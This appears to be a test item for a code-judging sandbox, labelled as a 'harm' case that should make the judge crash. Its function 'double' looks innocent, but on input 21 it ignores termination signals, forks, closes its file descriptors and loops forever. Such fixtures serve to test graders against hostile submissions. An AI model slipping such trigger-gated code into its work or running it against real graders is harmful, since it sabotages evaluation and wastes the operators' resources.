# kind = "harm"
# goal = "the judge's time"
# trick = "closes its line to the judge and lives on, deaf to signals, with children that loop"
# mark = 3
# verdict = "CRASH"
# %% solve="double"
import os, signal, time
def double(x):
    if x == 21:
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        os.fork()
        os.closerange(3, 1024)
        while True:
            time.sleep(1)
    return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
